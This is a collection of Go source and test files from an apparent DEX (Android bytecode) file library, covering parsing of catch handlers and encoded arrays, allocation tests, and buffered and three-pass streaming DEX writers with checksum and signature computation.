				return nil, &FormatError{Offset: pos, Reason: "bad catch type"}
			}
			addr, pos, err = readULEB128(r.buf, pos)
			if err != nil {
				return nil, &FormatError{Offset: pos, Reason: "bad catch addr"}
			}
			t.Handlers = append(t.Handlers, TypeAddr{Type: typ, Addr: addr})
		}
		if size <= 0 {
			var addr uint32
			addr, pos, err = readULEB128(r.buf, pos)
			if err != nil {
				return nil, &FormatError{Offset: pos, Reason: "bad catch-all addr"}
			}
			t.CatchAll = int32(addr)
		}
		code.Tries = append(code.Tries, t)
	}
	return code, nil
}

func (r *byteReader) readEncodedArray(off int) ([]Value, error) {
	size, pos, err := readULEB128(r.buf, off)
	if err != nil {
		return nil, &FormatError{Offset: off, Reason: "bad encoded array size"}
	}
	if size > 1<<16 {
		return nil, &FormatError{Offset: off, Reason: "encoded array too large"}
	}
	out := make([]Value, size)
	for i := uint32(0); i < size; i++ {
		out[i], pos, err = readEncodedValue(r.buf, pos)
		if err != nil {
			return nil, &FormatError{Offset: pos, Reason: err.Error()}
		}
	}
	return out, nil
}
