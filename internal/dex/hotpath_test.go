package dex

import (
	"testing"
)

// TestBuilderInternAllocs pins the steady-state allocation behavior of the
// Builder symbol pools: once a string/type/proto/field/method is interned,
// looking it up again must not allocate — the key is built in the reusable
// scratch buffer and resolved with an allocation-free map[string] lookup.
// A regression here (e.g. reintroducing string-concat key construction)
// multiplies across every instruction of every collected method.
func TestBuilderInternAllocs(t *testing.T) {
	b := NewBuilder()
	b.String("hello")
	b.Type("Ljava/lang/String;")
	b.Proto("V", "I", "Ljava/lang/String;")
	b.Field("La/B;", "field", "I")
	b.Method("La/B;", "method", "V", "I", "Ljava/lang/String;")

	cases := []struct {
		name string
		fn   func()
	}{
		{"String", func() { b.String("hello") }},
		{"Type", func() { b.Type("Ljava/lang/String;") }},
		{"Proto", func() { b.Proto("V", "I", "Ljava/lang/String;") }},
		{"Field", func() { b.Field("La/B;", "field", "I") }},
		{"Method", func() { b.Method("La/B;", "method", "V", "I", "Ljava/lang/String;") }},
	}
	for _, tc := range cases {
		if n := testing.AllocsPerRun(100, tc.fn); n != 0 {
			t.Errorf("Builder.%s steady-state lookup allocates %v times per op, want 0", tc.name, n)
		}
	}
}

func TestSortPermSortedReturnsNil(t *testing.T) {
	vals := []string{"a", "b", "c", "d"}
	perm := sortPerm(len(vals), func(i, j int) bool { return vals[i] < vals[j] })
	if perm != nil {
		t.Fatalf("sortPerm on sorted input = %v, want nil (identity)", perm)
	}
	// permAt must treat the nil permutation as identity.
	for i := uint32(0); i < uint32(len(vals)); i++ {
		if got := permAt(nil, i); got != i {
			t.Fatalf("permAt(nil, %d) = %d, want %d", i, got, i)
		}
	}
}

func TestSortPermUnsorted(t *testing.T) {
	vals := []string{"c", "a", "d", "b"}
	perm := sortPerm(len(vals), func(i, j int) bool { return vals[i] < vals[j] })
	if perm == nil {
		t.Fatal("sortPerm on unsorted input = nil, want a permutation")
	}
	out := make([]string, len(vals))
	for old, s := range vals {
		out[perm[old]] = s
	}
	want := []string{"a", "b", "c", "d"}
	for i := range want {
		if out[i] != want[i] {
			t.Fatalf("applied perm = %v, want %v", out, want)
		}
	}
	for i := uint32(0); i < uint32(len(vals)); i++ {
		if got := permAt(perm, i); got != perm[i] {
			t.Fatalf("permAt(perm, %d) = %d, want %d", i, got, perm[i])
		}
	}
}

// TestSortPermSingleAndEmpty covers the degenerate sizes the index tables hit
// for tiny DEX files.
func TestSortPermSingleAndEmpty(t *testing.T) {
	if perm := sortPerm(0, func(i, j int) bool { return false }); perm != nil {
		t.Fatalf("sortPerm(0) = %v, want nil", perm)
	}
	if perm := sortPerm(1, func(i, j int) bool { return false }); perm != nil {
		t.Fatalf("sortPerm(1) = %v, want nil", perm)
	}
}

// TestBuilderSortedInputStable verifies the already-sorted fast path of
// Finish produces the same file as a shuffled-input build: indices are
// canonical either way.
func TestBuilderSortedInputStable(t *testing.T) {
	build := func(order []string) []byte {
		b := NewBuilder()
		for _, s := range order {
			b.String(s)
		}
		cls := b.Class("La/A;", AccPublic, "Ljava/lang/Object;")
		cls.NativeMethod("go", "V", nil, AccPublic|AccNative)
		f, err := b.Finish()
		if err != nil {
			t.Fatalf("Finish: %v", err)
		}
		data, err := f.Write()
		if err != nil {
			t.Fatalf("Write: %v", err)
		}
		return data
	}
	sorted := build([]string{"alpha", "beta", "gamma"})
	shuffled := build([]string{"gamma", "alpha", "beta"})
	if string(sorted) != string(shuffled) {
		t.Fatal("sorted-input fast path and shuffled input produced different files")
	}
}
