package dex

import (
	"crypto/sha1"
	"encoding/binary"
	"fmt"
	"hash/adler32"
	"io"
	"sort"
	"sync"
)

// Magic is the DEX file magic including the format version.
const Magic = "dex\n035\x00"

const (
	headerSize = 0x70
	endianTag  = 0x12345678
)

// streamWindow bounds how many data-section bytes WriteStream buffers before
// handing them to the sink. Flush points sit on item boundaries, so a single
// oversized code item can exceed the window transiently; it is retired at the
// next boundary.
const streamWindow = 64 << 10

// Map-list item type codes from the DEX specification.
const (
	mapHeader       = 0x0000
	mapStringID     = 0x0001
	mapTypeID       = 0x0002
	mapProtoID      = 0x0003
	mapFieldID      = 0x0004
	mapMethodID     = 0x0005
	mapClassDef     = 0x0006
	mapMapList      = 0x1000
	mapTypeList     = 0x1001
	mapClassData    = 0x2000
	mapCode         = 0x2001
	mapStringData   = 0x2002
	mapEncodedArray = 0x2005
)

// byteWriter accumulates little-endian DEX bytes. With a nil sink it is a
// plain growing buffer (the buffered Write path). With a sink, flushWindow
// retires the buffer to the sink whenever it exceeds streamWindow, so the
// streaming path holds at most one window plus the current item; len()
// accounts for flushed bytes either way.
type byteWriter struct {
	buf     []byte
	sink    io.Writer
	flushed int
	err     error
}

func (w *byteWriter) reset(sink io.Writer) {
	w.buf = w.buf[:0]
	w.sink = sink
	w.flushed = 0
	w.err = nil
}

func (w *byteWriter) u8(v uint8)   { w.buf = append(w.buf, v) }
func (w *byteWriter) u16(v uint16) { w.buf = append(w.buf, byte(v), byte(v>>8)) }
func (w *byteWriter) u32(v uint32) {
	w.buf = append(w.buf, byte(v), byte(v>>8), byte(v>>16), byte(v>>24))
}
func (w *byteWriter) uleb(v uint32) { w.buf = appendULEB128(w.buf, v) }
func (w *byteWriter) sleb(v int32)  { w.buf = appendSLEB128(w.buf, v) }
func (w *byteWriter) len() int      { return w.flushed + len(w.buf) }

func (w *byteWriter) flushWindow() {
	if w.sink != nil && len(w.buf) >= streamWindow {
		w.flush()
	}
}

func (w *byteWriter) flush() {
	if w.sink == nil || len(w.buf) == 0 {
		return
	}
	if w.err == nil {
		_, w.err = w.sink.Write(w.buf)
	}
	// Count even failed flushes so len()-based offsets stay consistent; err
	// short-circuits the final result.
	w.flushed += len(w.buf)
	w.buf = w.buf[:0]
}

func (w *byteWriter) finish() error {
	w.flush()
	return w.err
}

// scratchPool recycles the data-section and catch-handler scratch writers
// across Write calls: a warm writer already holds a buffer sized by the
// previous file, so the data section is built without growth reallocations.
var scratchPool = sync.Pool{New: func() any { return new(byteWriter) }}

type mapEntry struct {
	kind   uint16
	size   uint32
	offset uint32
}

// sectionOffsets locates the fixed-size index sections; they depend only on
// table lengths, so every pass computes them identically.
type sectionOffsets struct {
	stringIDs, typeIDs, protoIDs, fieldIDs, methodIDs, classDefs, data int
}

func (f *File) sectionOffsets() sectionOffsets {
	var o sectionOffsets
	o.stringIDs = headerSize
	o.typeIDs = o.stringIDs + 4*len(f.Strings)
	o.protoIDs = o.typeIDs + 4*len(f.Types)
	o.fieldIDs = o.protoIDs + 12*len(f.Protos)
	o.methodIDs = o.fieldIDs + 8*len(f.Fields)
	o.classDefs = o.methodIDs + 8*len(f.Methods)
	o.data = o.classDefs + 32*len(f.Classes)
	return o
}

// dataLayout records where every variable-length item landed inside the data
// section. It is the only state a streaming pass carries over: once buildData
// returns, all of its builder maps (type-list dedup, per-method code offsets)
// are dead, and later passes emit the header and id tables from these arrays
// alone.
type dataLayout struct {
	protoParamsOff []uint32
	classIfaceOff  []uint32
	classDataOff   []uint32
	staticValsOff  []uint32
	stringDataOff  []uint32
	mapEntries     []mapEntry
	mapOff         uint32
	dataLen        int
}

// buildData serializes the data section into data, starting at file offset
// dataOff, and returns the resulting layout. Offsets are tracked relative to
// the writer position at entry, so the caller may stream the header and id
// tables through the same writer first. The construction is deterministic:
// repeated calls on the same file produce identical bytes, which is what lets
// WriteStream run it once per pass instead of buffering the section.
func (f *File) buildData(data *byteWriter, handlerScratch *byteWriter, dataOff int) (dataLayout, error) {
	base := data.len()
	rel := func() int { return data.len() - base }
	abs := func() uint32 { return uint32(dataOff + rel()) }
	align4 := func() {
		for rel()%4 != 0 {
			data.u8(0)
		}
	}

	var lay dataLayout
	offs := f.sectionOffsets()
	addMap := func(kind uint16, size int, offset uint32) {
		if size > 0 {
			lay.mapEntries = append(lay.mapEntries, mapEntry{kind, uint32(size), offset})
		}
	}
	addMap(mapHeader, 1, 0)
	addMap(mapStringID, len(f.Strings), uint32(offs.stringIDs))
	addMap(mapTypeID, len(f.Types), uint32(offs.typeIDs))
	addMap(mapProtoID, len(f.Protos), uint32(offs.protoIDs))
	addMap(mapFieldID, len(f.Fields), uint32(offs.fieldIDs))
	addMap(mapMethodID, len(f.Methods), uint32(offs.methodIDs))
	addMap(mapClassDef, len(f.Classes), uint32(offs.classDefs))

	// Type lists (proto parameters and class interfaces), deduplicated. The
	// dedup key is a varint encoding built in a reused scratch buffer and
	// only materialized as a string for first-seen lists.
	typeListOff := make(map[string]uint32, len(f.Protos))
	var listKeyBuf []byte
	var typeListCount int
	var typeListFirst uint32
	writeTypeList := func(ts []uint32) uint32 {
		if len(ts) == 0 {
			return 0
		}
		listKeyBuf = listKeyBuf[:0]
		for _, t := range ts {
			listKeyBuf = binary.AppendUvarint(listKeyBuf, uint64(t))
		}
		if off, ok := typeListOff[string(listKeyBuf)]; ok {
			return off
		}
		key := string(listKeyBuf)
		align4()
		off := abs()
		if typeListCount == 0 {
			typeListFirst = off
		}
		typeListCount++
		data.u32(uint32(len(ts)))
		for _, t := range ts {
			data.u16(uint16(t))
		}
		typeListOff[key] = off
		return off
	}
	lay.protoParamsOff = make([]uint32, len(f.Protos))
	for i := range f.Protos {
		lay.protoParamsOff[i] = writeTypeList(f.Protos[i].Params)
	}
	lay.classIfaceOff = make([]uint32, len(f.Classes))
	for i := range f.Classes {
		lay.classIfaceOff[i] = writeTypeList(f.Classes[i].Interfaces)
	}
	addMap(mapTypeList, typeListCount, typeListFirst)
	data.flushWindow()

	// Code items.
	type methodKey struct{ class, list, idx int }
	codeOffs := make(map[methodKey]uint32)
	var codeCount int
	var codeFirst uint32
	for ci := range f.Classes {
		cd := &f.Classes[ci]
		for li, list := range [][]EncodedMethod{cd.DirectMeths, cd.VirtualMeths} {
			for mi := range list {
				code := list[mi].Code
				if code == nil {
					continue
				}
				align4()
				off := abs()
				if codeCount == 0 {
					codeFirst = off
				}
				codeCount++
				codeOffs[methodKey{ci, li, mi}] = off
				if err := writeCodeItem(data, code, handlerScratch); err != nil {
					return lay, err
				}
				data.flushWindow()
			}
		}
	}
	addMap(mapCode, codeCount, codeFirst)

	// Class data items.
	lay.classDataOff = make([]uint32, len(f.Classes))
	var classDataCount int
	var classDataFirst uint32
	for ci := range f.Classes {
		cd := &f.Classes[ci]
		if len(cd.StaticFields)+len(cd.InstFields)+
			len(cd.DirectMeths)+len(cd.VirtualMeths) == 0 {
			continue
		}
		off := abs()
		if classDataCount == 0 {
			classDataFirst = off
		}
		classDataCount++
		lay.classDataOff[ci] = off
		data.uleb(uint32(len(cd.StaticFields)))
		data.uleb(uint32(len(cd.InstFields)))
		data.uleb(uint32(len(cd.DirectMeths)))
		data.uleb(uint32(len(cd.VirtualMeths)))
		writeFields := func(fields []EncodedField) error {
			if !sort.SliceIsSorted(fields, func(i, j int) bool {
				return fields[i].Field < fields[j].Field
			}) {
				return fmt.Errorf("dex: class %s fields not sorted by index",
					f.TypeName(cd.Class))
			}
			prev := uint32(0)
			for i, ef := range fields {
				diff := ef.Field - prev
				if i == 0 {
					diff = ef.Field
				}
				data.uleb(diff)
				data.uleb(ef.AccessFlags)
				prev = ef.Field
			}
			return nil
		}
		if err := writeFields(cd.StaticFields); err != nil {
			return lay, err
		}
		if err := writeFields(cd.InstFields); err != nil {
			return lay, err
		}
		writeMethods := func(li int, meths []EncodedMethod) error {
			if !sort.SliceIsSorted(meths, func(i, j int) bool {
				return meths[i].Method < meths[j].Method
			}) {
				return fmt.Errorf("dex: class %s methods not sorted by index",
					f.TypeName(cd.Class))
			}
			prev := uint32(0)
			for i, em := range meths {
				diff := em.Method - prev
				if i == 0 {
					diff = em.Method
				}
				data.uleb(diff)
				data.uleb(em.AccessFlags)
				data.uleb(codeOffs[methodKey{ci, li, i}])
				prev = em.Method
			}
			return nil
		}
		if err := writeMethods(0, cd.DirectMeths); err != nil {
			return lay, err
		}
		if err := writeMethods(1, cd.VirtualMeths); err != nil {
			return lay, err
		}
		data.flushWindow()
	}
	addMap(mapClassData, classDataCount, classDataFirst)

	// Static value arrays.
	lay.staticValsOff = make([]uint32, len(f.Classes))
	var arrCount int
	var arrFirst uint32
	for ci := range f.Classes {
		vals := f.Classes[ci].StaticValues
		if len(vals) == 0 {
			continue
		}
		off := abs()
		if arrCount == 0 {
			arrFirst = off
		}
		arrCount++
		lay.staticValsOff[ci] = off
		data.uleb(uint32(len(vals)))
		for _, v := range vals {
			var err error
			data.buf, err = appendEncodedValue(data.buf, v)
			if err != nil {
				return lay, err
			}
		}
		data.flushWindow()
	}
	addMap(mapEncodedArray, arrCount, arrFirst)

	// String data.
	lay.stringDataOff = make([]uint32, len(f.Strings))
	var strFirst uint32
	for i, s := range f.Strings {
		off := abs()
		if i == 0 {
			strFirst = off
		}
		lay.stringDataOff[i] = off
		if asciiNoNUL(s) {
			// ASCII encodes as itself with UTF-16 length len(s): write the
			// bytes straight into the data section, no scratch encoding.
			data.uleb(uint32(len(s)))
			data.buf = append(data.buf, s...)
		} else {
			enc, u16len := encodeMUTF8(s)
			data.uleb(uint32(u16len))
			data.buf = append(data.buf, enc...)
		}
		data.u8(0)
		data.flushWindow()
	}
	addMap(mapStringData, len(f.Strings), strFirst)

	// Map list.
	align4()
	lay.mapOff = abs()
	addMap(mapMapList, 1, lay.mapOff)
	sort.SliceStable(lay.mapEntries, func(i, j int) bool {
		return lay.mapEntries[i].offset < lay.mapEntries[j].offset
	})
	data.u32(uint32(len(lay.mapEntries)))
	for _, e := range lay.mapEntries {
		data.u16(e.kind)
		data.u16(0)
		data.u32(e.size)
		data.u32(e.offset)
	}
	lay.dataLen = rel()
	return lay, nil
}

// emitHeaderTail writes the header fields after the signature (file_size
// through data_off).
func (f *File) emitHeaderTail(out *byteWriter, lay *dataLayout, offs sectionOffsets, total int) {
	out.u32(uint32(total))
	out.u32(headerSize)
	out.u32(endianTag)
	out.u32(0) // link_size
	out.u32(0) // link_off
	out.u32(lay.mapOff)
	out.u32(uint32(len(f.Strings)))
	out.u32(offOrZero(len(f.Strings), offs.stringIDs))
	out.u32(uint32(len(f.Types)))
	out.u32(offOrZero(len(f.Types), offs.typeIDs))
	out.u32(uint32(len(f.Protos)))
	out.u32(offOrZero(len(f.Protos), offs.protoIDs))
	out.u32(uint32(len(f.Fields)))
	out.u32(offOrZero(len(f.Fields), offs.fieldIDs))
	out.u32(uint32(len(f.Methods)))
	out.u32(offOrZero(len(f.Methods), offs.methodIDs))
	out.u32(uint32(len(f.Classes)))
	out.u32(offOrZero(len(f.Classes), offs.classDefs))
	out.u32(uint32(lay.dataLen))
	out.u32(uint32(offs.data))
}

// emitIDTables writes the fixed-size index sections from the recorded layout.
func (f *File) emitIDTables(out *byteWriter, lay *dataLayout) {
	for _, off := range lay.stringDataOff {
		out.u32(off)
	}
	out.flushWindow()
	for _, t := range f.Types {
		out.u32(t)
	}
	out.flushWindow()
	for i, p := range f.Protos {
		out.u32(p.Shorty)
		out.u32(p.Return)
		out.u32(lay.protoParamsOff[i])
	}
	out.flushWindow()
	for _, fd := range f.Fields {
		out.u16(uint16(fd.Class))
		out.u16(uint16(fd.Type))
		out.u32(fd.Name)
	}
	out.flushWindow()
	for _, m := range f.Methods {
		out.u16(uint16(m.Class))
		out.u16(uint16(m.Proto))
		out.u32(m.Name)
	}
	out.flushWindow()
	for ci := range f.Classes {
		cd := &f.Classes[ci]
		out.u32(cd.Class)
		out.u32(cd.AccessFlags)
		out.u32(cd.Superclass)
		out.u32(lay.classIfaceOff[ci])
		out.u32(cd.SourceFile)
		out.u32(0) // annotations_off
		out.u32(lay.classDataOff[ci])
		out.u32(lay.staticValsOff[ci])
		out.flushWindow()
	}
}

// Write serializes the file to the DEX binary format, computing the header
// checksum and SHA-1 signature. The whole file is buffered; WriteStream is
// the bounded-memory alternative.
func (f *File) Write() ([]byte, error) {
	if err := f.validate(); err != nil {
		return nil, err
	}
	offs := f.sectionOffsets()

	data := scratchPool.Get().(*byteWriter)
	data.reset(nil)
	defer scratchPool.Put(data)
	handlerScratch := scratchPool.Get().(*byteWriter)
	handlerScratch.reset(nil)
	defer scratchPool.Put(handlerScratch)

	lay, err := f.buildData(data, handlerScratch, offs.data)
	if err != nil {
		return nil, err
	}

	// Assemble the final file.
	total := offs.data + data.len()
	out := &byteWriter{buf: make([]byte, 0, total)}
	out.buf = append(out.buf, Magic...)
	out.u32(0)                                     // checksum, patched below
	out.buf = append(out.buf, make([]byte, 20)...) // signature, patched below
	f.emitHeaderTail(out, &lay, offs, total)
	f.emitIDTables(out, &lay)
	out.buf = append(out.buf, data.buf...)

	// Signature over everything after it, checksum over everything after it.
	sig := sha1.Sum(out.buf[32:])
	copy(out.buf[12:32], sig[:])
	sum := adler32.Checksum(out.buf[12:])
	out.buf[8] = byte(sum)
	out.buf[9] = byte(sum >> 8)
	out.buf[10] = byte(sum >> 16)
	out.buf[11] = byte(sum >> 24)
	return out.buf, nil
}

// countWriter tracks how many bytes reached the underlying writer.
type countWriter struct {
	w io.Writer
	n int64
}

func (c *countWriter) Write(p []byte) (int, error) {
	n, err := c.w.Write(p)
	c.n += int64(n)
	return n, err
}

// WriteStream serializes the file to w, byte-identical to Write, while
// holding only a bounded window of the output in memory (plus the per-pass
// layout arrays). The header checksum covers the signature, which in turn
// covers every byte after it, so a single forward pass cannot emit the
// header first; instead the file is produced in three deterministic passes:
//
//  1. measure — build the data section against a discarding sink to fix
//     every item offset, the map list and the total size;
//  2. digest — stream header tail, id tables and data section through the
//     SHA-1 and adler32 hashes; the header checksum is then derived from
//     the signature with an adler32 combine instead of a third hash sweep;
//  3. emit — stream the completed header and the same sections to w.
//
// Each pass rebuilds the variable-length sections window-by-window and
// retires the builder state when the pass ends, trading ~3x encode CPU for
// an O(window) output footprint. Returns the number of bytes written to w.
func (f *File) WriteStream(w io.Writer) (int64, error) {
	if err := f.validate(); err != nil {
		return 0, err
	}
	offs := f.sectionOffsets()

	handlerScratch := scratchPool.Get().(*byteWriter)
	handlerScratch.reset(nil)
	defer scratchPool.Put(handlerScratch)
	pass := scratchPool.Get().(*byteWriter)
	defer scratchPool.Put(pass)

	// Pass 1: measure.
	pass.reset(io.Discard)
	lay, err := f.buildData(pass, handlerScratch, offs.data)
	if err != nil {
		return 0, err
	}
	if err := pass.finish(); err != nil {
		return 0, err
	}
	total := offs.data + lay.dataLen

	// Pass 2: digest everything after the signature field.
	sha := sha1.New()
	adl := adler32.New()
	pass.reset(io.MultiWriter(sha, adl))
	f.emitHeaderTail(pass, &lay, offs, total)
	f.emitIDTables(pass, &lay)
	lay2, err := f.buildData(pass, handlerScratch, offs.data)
	if err != nil {
		return 0, err
	}
	if err := pass.finish(); err != nil {
		return 0, err
	}
	if lay2.dataLen != lay.dataLen {
		return 0, fmt.Errorf("dex: stream passes disagree on data length (%d != %d)",
			lay2.dataLen, lay.dataLen)
	}
	var sig [20]byte
	sha.Sum(sig[:0])
	// checksum = adler32 over signature ++ body; splice the two partial sums.
	sum := adler32Combine(adler32.Checksum(sig[:]), adl.Sum32(), int64(total-32))

	// Pass 3: emit.
	cw := &countWriter{w: w}
	pass.reset(cw)
	pass.buf = append(pass.buf, Magic...)
	pass.u32(sum)
	pass.buf = append(pass.buf, sig[:]...)
	f.emitHeaderTail(pass, &lay, offs, total)
	f.emitIDTables(pass, &lay)
	if _, err := f.buildData(pass, handlerScratch, offs.data); err != nil {
		return cw.n, err
	}
	if err := pass.finish(); err != nil {
		return cw.n, err
	}
	return cw.n, nil
}

// adler32Combine returns the adler32 of the concatenation A++B given
// adler32(A), adler32(B) and len(B) (the standard zlib combine identity:
// B's running sums are shifted by A's, minus the seed that B double-counts).
func adler32Combine(adler1, adler2 uint32, len2 int64) uint32 {
	const mod = 65521
	rem := uint32(len2 % mod)
	sum1 := adler1 & 0xffff
	sum2 := (rem * sum1) % mod
	sum1 += (adler2 & 0xffff) + mod - 1
	sum2 += ((adler1 >> 16) & 0xffff) + ((adler2 >> 16) & 0xffff) + mod - rem
	if sum1 >= mod {
		sum1 -= mod
	}
	if sum1 >= mod {
		sum1 -= mod
	}
	if sum2 >= mod<<1 {
		sum2 -= mod << 1
	}
	if sum2 >= mod {
		sum2 -= mod
	}
	return sum1 | sum2<<16
}

func offOrZero(n, off int) uint32 {
	if n == 0 {
		return 0
	}
	return uint32(off)
}

func writeCodeItem(w *byteWriter, code *Code, handlers *byteWriter) error {
	w.u16(code.RegistersSize)
	w.u16(code.InsSize)
	w.u16(code.OutsSize)
	w.u16(uint16(len(code.Tries)))
	w.u32(0) // debug_info_off
	w.u32(uint32(len(code.Insns)))
	for _, u := range code.Insns {
		w.u16(u)
	}
	if len(code.Tries) == 0 {
		return nil
	}
	if len(code.Insns)%2 != 0 {
		w.u16(0) // padding
	}
	// Each try gets its own encoded_catch_handler. Handler offsets are
	// relative to the start of the encoded_catch_handler_list; the scratch
	// writer is reused across code items.
	handlers.buf = handlers.buf[:0]
	handlers.uleb(uint32(len(code.Tries)))
	handlerOff := make([]uint32, len(code.Tries))
	for i, t := range code.Tries {
		handlerOff[i] = uint32(handlers.len())
		size := int32(len(t.Handlers))
		if t.CatchAll >= 0 {
			size = -size
		}
		handlers.sleb(size)
		for _, h := range t.Handlers {
			handlers.uleb(h.Type)
			handlers.uleb(h.Addr)
		}
		if t.CatchAll >= 0 {
			handlers.uleb(uint32(t.CatchAll))
		}
	}
	for i, t := range code.Tries {
		if handlerOff[i] > 0xffff {
			return fmt.Errorf("dex: handler offset overflow")
		}
		w.u32(t.Start)
		w.u16(uint16(t.Count))
		w.u16(uint16(handlerOff[i]))
	}
	w.buf = append(w.buf, handlers.buf...)
	return nil
}

func (f *File) validate() error {
	for i, t := range f.Types {
		if int(t) >= len(f.Strings) {
			return fmt.Errorf("dex: type %d references string %d out of range", i, t)
		}
	}
	for i, p := range f.Protos {
		if int(p.Shorty) >= len(f.Strings) || int(p.Return) >= len(f.Types) {
			return fmt.Errorf("dex: proto %d has out-of-range references", i)
		}
		for _, t := range p.Params {
			if int(t) >= len(f.Types) {
				return fmt.Errorf("dex: proto %d param type %d out of range", i, t)
			}
		}
	}
	for i, fd := range f.Fields {
		if int(fd.Class) >= len(f.Types) || int(fd.Type) >= len(f.Types) ||
			int(fd.Name) >= len(f.Strings) {
			return fmt.Errorf("dex: field %d has out-of-range references", i)
		}
	}
	for i, m := range f.Methods {
		if int(m.Class) >= len(f.Types) || int(m.Proto) >= len(f.Protos) ||
			int(m.Name) >= len(f.Strings) {
			return fmt.Errorf("dex: method %d has out-of-range references", i)
		}
	}
	for i := range f.Classes {
		cd := &f.Classes[i]
		if int(cd.Class) >= len(f.Types) {
			return fmt.Errorf("dex: class %d type out of range", i)
		}
		if cd.Superclass != NoIndex && int(cd.Superclass) >= len(f.Types) {
			return fmt.Errorf("dex: class %d superclass out of range", i)
		}
		if cd.SourceFile != NoIndex && int(cd.SourceFile) >= len(f.Strings) {
			return fmt.Errorf("dex: class %d source file out of range", i)
		}
		if len(cd.StaticValues) > len(cd.StaticFields) {
			return fmt.Errorf("dex: class %s has %d static values for %d static fields",
				f.TypeName(cd.Class), len(cd.StaticValues), len(cd.StaticFields))
		}
	}
	return nil
}
