package dex

import (
	"crypto/sha1"
	"encoding/binary"
	"fmt"
	"hash/adler32"
	"sort"
	"sync"
)

// Magic is the DEX file magic including the format version.
const Magic = "dex\n035\x00"

const (
	headerSize = 0x70
	endianTag  = 0x12345678
)

// Map-list item type codes from the DEX specification.
const (
	mapHeader       = 0x0000
	mapStringID     = 0x0001
	mapTypeID       = 0x0002
	mapProtoID      = 0x0003
	mapFieldID      = 0x0004
	mapMethodID     = 0x0005
	mapClassDef     = 0x0006
	mapMapList      = 0x1000
	mapTypeList     = 0x1001
	mapClassData    = 0x2000
	mapCode         = 0x2001
	mapStringData   = 0x2002
	mapEncodedArray = 0x2005
)

type byteWriter struct {
	buf []byte
}

func (w *byteWriter) u8(v uint8)   { w.buf = append(w.buf, v) }
func (w *byteWriter) u16(v uint16) { w.buf = append(w.buf, byte(v), byte(v>>8)) }
func (w *byteWriter) u32(v uint32) {
	w.buf = append(w.buf, byte(v), byte(v>>8), byte(v>>16), byte(v>>24))
}
func (w *byteWriter) uleb(v uint32) { w.buf = appendULEB128(w.buf, v) }
func (w *byteWriter) sleb(v int32)  { w.buf = appendSLEB128(w.buf, v) }
func (w *byteWriter) align4() {
	for len(w.buf)%4 != 0 {
		w.buf = append(w.buf, 0)
	}
}
func (w *byteWriter) len() int { return len(w.buf) }

// scratchPool recycles the data-section and catch-handler scratch writers
// across Write calls: a warm writer already holds a buffer sized by the
// previous file, so the data section is built without growth reallocations.
var scratchPool = sync.Pool{New: func() any { return new(byteWriter) }}

// Write serializes the file to the DEX binary format, computing the header
// checksum and SHA-1 signature.
func (f *File) Write() ([]byte, error) {
	if err := f.validate(); err != nil {
		return nil, err
	}
	// Fixed-size index sections determine where data starts.
	stringIDsOff := headerSize
	typeIDsOff := stringIDsOff + 4*len(f.Strings)
	protoIDsOff := typeIDsOff + 4*len(f.Types)
	fieldIDsOff := protoIDsOff + 12*len(f.Protos)
	methodIDsOff := fieldIDsOff + 8*len(f.Fields)
	classDefsOff := methodIDsOff + 8*len(f.Methods)
	dataOff := classDefsOff + 32*len(f.Classes)

	data := scratchPool.Get().(*byteWriter)
	data.buf = data.buf[:0]
	defer scratchPool.Put(data)
	handlerScratch := scratchPool.Get().(*byteWriter)
	defer scratchPool.Put(handlerScratch)
	abs := func() uint32 { return uint32(dataOff + data.len()) }

	type mapEntry struct {
		kind   uint16
		size   uint32
		offset uint32
	}
	var mapEntries []mapEntry
	addMap := func(kind uint16, size int, offset uint32) {
		if size > 0 {
			mapEntries = append(mapEntries, mapEntry{kind, uint32(size), offset})
		}
	}
	addMap(mapHeader, 1, 0)
	addMap(mapStringID, len(f.Strings), uint32(stringIDsOff))
	addMap(mapTypeID, len(f.Types), uint32(typeIDsOff))
	addMap(mapProtoID, len(f.Protos), uint32(protoIDsOff))
	addMap(mapFieldID, len(f.Fields), uint32(fieldIDsOff))
	addMap(mapMethodID, len(f.Methods), uint32(methodIDsOff))
	addMap(mapClassDef, len(f.Classes), uint32(classDefsOff))

	// Type lists (proto parameters and class interfaces), deduplicated. The
	// dedup key is a varint encoding built in a reused scratch buffer and
	// only materialized as a string for first-seen lists.
	typeListOff := make(map[string]uint32, len(f.Protos))
	var listKeyBuf []byte
	var typeListCount int
	var typeListFirst uint32
	writeTypeList := func(ts []uint32) uint32 {
		if len(ts) == 0 {
			return 0
		}
		listKeyBuf = listKeyBuf[:0]
		for _, t := range ts {
			listKeyBuf = binary.AppendUvarint(listKeyBuf, uint64(t))
		}
		if off, ok := typeListOff[string(listKeyBuf)]; ok {
			return off
		}
		key := string(listKeyBuf)
		data.align4()
		off := abs()
		if typeListCount == 0 {
			typeListFirst = off
		}
		typeListCount++
		data.u32(uint32(len(ts)))
		for _, t := range ts {
			data.u16(uint16(t))
		}
		typeListOff[key] = off
		return off
	}
	protoParamsOff := make([]uint32, len(f.Protos))
	for i := range f.Protos {
		protoParamsOff[i] = writeTypeList(f.Protos[i].Params)
	}
	classIfaceOff := make([]uint32, len(f.Classes))
	for i := range f.Classes {
		classIfaceOff[i] = writeTypeList(f.Classes[i].Interfaces)
	}
	addMap(mapTypeList, typeListCount, typeListFirst)

	// Code items.
	type methodKey struct{ class, list, idx int }
	codeOffs := make(map[methodKey]uint32)
	var codeCount int
	var codeFirst uint32
	for ci := range f.Classes {
		cd := &f.Classes[ci]
		for li, list := range [][]EncodedMethod{cd.DirectMeths, cd.VirtualMeths} {
			for mi := range list {
				code := list[mi].Code
				if code == nil {
					continue
				}
				data.align4()
				off := abs()
				if codeCount == 0 {
					codeFirst = off
				}
				codeCount++
				codeOffs[methodKey{ci, li, mi}] = off
				if err := writeCodeItem(data, code, handlerScratch); err != nil {
					return nil, err
				}
			}
		}
	}
	addMap(mapCode, codeCount, codeFirst)

	// Class data items.
	classDataOff := make([]uint32, len(f.Classes))
	var classDataCount int
	var classDataFirst uint32
	for ci := range f.Classes {
		cd := &f.Classes[ci]
		if len(cd.StaticFields)+len(cd.InstFields)+
			len(cd.DirectMeths)+len(cd.VirtualMeths) == 0 {
			continue
		}
		off := abs()
		if classDataCount == 0 {
			classDataFirst = off
		}
		classDataCount++
		classDataOff[ci] = off
		data.uleb(uint32(len(cd.StaticFields)))
		data.uleb(uint32(len(cd.InstFields)))
		data.uleb(uint32(len(cd.DirectMeths)))
		data.uleb(uint32(len(cd.VirtualMeths)))
		writeFields := func(fields []EncodedField) error {
			if !sort.SliceIsSorted(fields, func(i, j int) bool {
				return fields[i].Field < fields[j].Field
			}) {
				return fmt.Errorf("dex: class %s fields not sorted by index",
